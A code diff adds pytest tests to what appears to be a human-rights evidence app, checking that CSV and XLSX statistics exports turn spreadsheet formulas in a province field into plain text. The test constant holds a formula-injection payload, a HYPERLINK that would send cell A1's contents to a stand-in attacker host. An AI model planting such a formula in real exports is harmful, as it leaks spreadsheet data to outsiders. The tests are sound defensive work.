@@ -350,3 +350,52 @@ def test_a_researcher_imports_three_sources_links_reviews_and_publishes_counts_a
     assert "Executions documented per year" in text and "per month of 2024" in text
     assert "<svg" in text and "estimated: about" in text
     assert researcher.email not in text and str(researcher) not in text
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
+
+
+@pytest.fixture
+def formula_province(org_a, researcher):
+    """Six victims whose province a source wrote as a spreadsheet formula."""
+    names = ["Ali Ahmadi", "Reza Karimi", "Hassan Moradi", "Mehdi Jafari", "Omid Sadeghi",
+             "Kamran Rostami"]  # fmt: skip
+    add_reports(org_a, "Persian", [
+        dict(source_reference=f"F-{i}", name_as_written=name, province=FORMULA,
+             ethnicity=FORMULA, date_as_written=f"2024-03-{i + 10:02d}", gender="male")
+        for i, name in enumerate(names)
+    ])  # fmt: skip
+    with scope(organisation=org_a):
+        run_linkage(organisation=org_a, review_band=(0.0, 1.0), threshold=0.99)
+
+
+def test_a_formula_in_a_province_is_plain_text_in_the_csv_download(
+    formula_province, researcher, login_as
+):
+    response = reauthenticated(login_as(researcher)).get(
+        reverse("evidence:statistics_download"), {"year": 2024, "fmt": "csv"}
+    )
+    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
+    labels = {r["label"] for r in rows if "HYPERLINK" in r["label"]}
+    assert labels == {"'" + FORMULA}
+    assert [r["documented_at_least"] for r in rows if r["label"] == "'" + FORMULA][0] == "6"
+
+
+def test_a_formula_in_a_province_is_plain_text_in_the_xlsx_download(
+    formula_province, researcher, login_as
+):
+    from openpyxl import load_workbook
+
+    response = reauthenticated(login_as(researcher)).get(
+        reverse("evidence:statistics_download"), {"year": 2024, "fmt": "xlsx"}
+    )
+    book = load_workbook(io.BytesIO(response.content))
+    cells = [
+        c
+        for sheet in book.worksheets
+        for row in sheet.iter_rows()
+        for c in row
+        if isinstance(c.value, str) and "HYPERLINK" in c.value
+    ]
+    assert len(cells) >= 2  # the province and the ethnicity tables
+    assert {(c.value, c.data_type) for c in cells} == {("'" + FORMULA, "s")}
